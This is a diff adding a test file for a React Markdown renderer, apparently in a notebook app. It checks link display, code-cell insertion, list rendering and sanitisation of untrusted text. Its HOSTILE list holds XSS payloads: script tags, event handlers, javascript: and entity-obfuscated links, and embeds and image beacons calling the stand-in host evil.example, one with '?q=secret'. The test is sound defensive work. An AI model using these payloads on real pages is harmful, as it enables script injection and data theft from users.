@@ -1,0 +1,146 @@
+import { describe, expect, test } from 'vitest';
+import * as React from 'react';
+
+import { show } from '../../__tests__/harness';
+import { Markdown } from '../Markdown';
+import { sanitise } from '../sanitise';
+
+const html = (text: string) => {
+  const { container } = show(<Markdown text={text} />);
+  return container;
+};
+
+/** Payloads that must neither run nor load anything, each with words that stay. */
+const HOSTILE: [string, string][] = [
+  ['script', '<script>window.hit = 1</script>ok'],
+  ['handler', '<img src=x onerror="window.hit = 1">ok'],
+  ['svg', '<svg onload="window.hit=1"><script>1</script></svg>ok'],
+  ['math', '<math><mi xlink:href="javascript:1">x</mi></math>ok'],
+  ['iframe', '<iframe src="https://evil.example"></iframe>ok'],
+  ['object', '<object data="https://evil.example"></object>ok'],
+  ['form', '<form action="https://evil.example"><input></form>ok'],
+  ['button', '<button formaction="javascript:1">x</button>ok'],
+  ['style', '<p style="background:url(https://evil.example/x)">ok</p>'],
+  ['style tag', '<style>@import "https://evil.example";</style>ok'],
+  ['link tag', '<link rel="stylesheet" href="https://evil.example">ok'],
+  ['base', '<base href="https://evil.example/">ok'],
+  ['meta', '<meta http-equiv="refresh" content="0;url=//evil.example">ok'],
+  ['javascript link', '[ok](javascript:window.hit=1)'],
+  ['entity link', '[ok](java&#x73;cript&colon;window.hit=1)'],
+  ['data link', '[ok](data:text/html,<script>1</script>)'],
+  ['vbscript', '<a href="vbscript:1">ok</a>'],
+  ['remote image', '![ok](https://evil.example/p.png?q=secret)'],
+  ['protocol-relative image', '![ok](//evil.example/p.png)'],
+  ['relative image', '![ok](../api/contents)'],
+  ['svg data image', '![ok](data:image/svg+xml;base64,PHN2Zz4=)'],
+  ['reference image', '![ok][x]\n\n[x]: https://evil.example/p.png'],
+  ['html image', '<img src="https://evil.example/p.png" alt="ok">'],
+  ['srcset', '<img srcset="https://evil.example/p.png 1x" alt="ok">'],
+  ['picture', '<picture><source srcset="//evil.example"></picture>ok'],
+  ['video', '<video src="https://evil.example" poster="//x"></video>ok'],
+  ['audio', '<audio src="https://evil.example"></audio>ok'],
+  ['image input', '<input type="image" src="https://evil.example">ok'],
+  ['command linker', '<a data-commandlinker-command="x" href="#">ok</a>'],
+  ['class', '<div class="jp-Dialog">ok</div>'],
+  ['id', '<a id="app" name="app">ok</a>'],
+  ['target', '<a href="https://a.example" target="_top">ok</a>'],
+  ['code in a list', '- <script>1</script>ok'],
+  ['heading', '# <img src=x onerror=1>ok'],
+  ['table', '| a |\n|---|\n| <img src=x onerror=1>ok |']
+];
+
+describe('untrusted text', () => {
+  test.each(HOSTILE)('%s does nothing', (_, text) => {
+    const page = html(text);
+    expect(page.textContent).toContain('ok');
+    for (const element of page.querySelectorAll('*')) {
+      expect(element.tagName.toLowerCase()).not.toMatch(
+        /^(script|style|link|base|meta|iframe|object|embed|form|input|svg|math|video|audio|source|picture)$/
+      );
+      for (const { name, value } of element.attributes) {
+        expect(name).not.toMatch(
+          /^(on|data-|style$|srcset|formaction|id$|name$)/
+        );
+        expect(value).not.toMatch(/javascript:|vbscript:|data:text/i);
+      }
+      expect(element.getAttribute('src') ?? 'data:image/png').toMatch(
+        /^data:image\/png/
+      );
+      expect(element.className).not.toContain('jp-');
+    }
+    for (const link of page.querySelectorAll('a[href]')) {
+      expect(link.getAttribute('rel')).toBe('noopener noreferrer');
+      expect(link.getAttribute('target')).toBe('_blank');
+    }
+  });
+
+  test('text is not made into markup', () => {
+    expect(html('1 < 2 & `<b>`').textContent?.trim()).toBe('1 < 2 & <b>');
+  });
+});
+
+test('a picture that came with the text is shown', () => {
+  const picture = html('![p](data:image/png;base64,aGk=)').querySelector('img');
+  expect(picture?.getAttribute('src')).toBe('data:image/png;base64,aGk=');
+});
+
+test('a link says where it leads', () => {
+  const [link] = html(
+    '[docs](https://docs.example/x?q=1)'
+  ).getElementsByTagName('a');
+  expect(link?.textContent).toBe('docs (docs.example)');
+  expect(link?.title).toBe('https://docs.example/x?q=1');
+  expect(html('<https://docs.example/x>').textContent?.trim()).toBe(
+    'https://docs.example/x'
+  );
+});
+
+test('code has its language, can be copied and made a cell', () => {
+  const { getByRole, getByText, host, container } = show(
+    <Markdown text={'- item\n\n  ```python title\n  x = 1\n  ```'} />
+  );
+  expect(getByText('python')).toBeTruthy();
+  getByRole('button', { name: 'Copy' }).click();
+  getByRole('button', { name: 'Insert as cell below' }).click();
+  expect(host.done).toEqual([
+    ['copy', 'x = 1'],
+    ['insert', 'x = 1', 'python']
+  ]);
+  expect(container.querySelector('li pre')?.textContent).toBe('x = 1');
+});
+
+test('code of other languages is not offered as a cell', () => {
+  const { queryByRole } = show(<Markdown text={'```bash\nls\n```'} />);
+  expect(queryByRole('button', { name: 'Insert as cell below' })).toBeNull();
+});
+
+test('lists, tasks, quotes and tables keep their shape', () => {
+  const page = html(
+    '3. a\n4. b\n\n- [x] done\n- [ ] open\n\n> q\n\n|a|b|\n|-|-:|\n|1|2|'
+  );
+  expect(page.querySelector('ol')?.start).toBe(3);
+  const boxes = [...page.querySelectorAll('[role=checkbox]')];
+  expect(boxes.map(box => box.getAttribute('aria-checked'))).toEqual([
+    'true',
+    'false'
+  ]);
+  expect(page.querySelector('input')).toBeNull();
+  expect(page.querySelector('blockquote')?.textContent).toBe('q\n');
+  expect(page.querySelectorAll('td')[1]?.getAttribute('align')).toBe('right');
+});
+
+test('only the growing block is rendered again', () => {
+  const { container, rerender } = show(<Markdown text={'one\n\ntwo'} />);
+  const [first, second] = container.querySelectorAll('p');
+  rerender(<Markdown text={'one\n\ntwo and'} />);
+  const [again, grown] = container.querySelectorAll('p');
+  expect(again).toBe(first);
+  expect(grown).not.toBe(second);
+  expect(grown?.textContent).toBe('two and');
+});
+
+test('the lab’s own sanitiser is not touched', () => {
+  expect(sanitise('<p class="x">a</p>').firstElementChild?.outerHTML).toBe(
+    '<p>a</p>'
+  );
+});
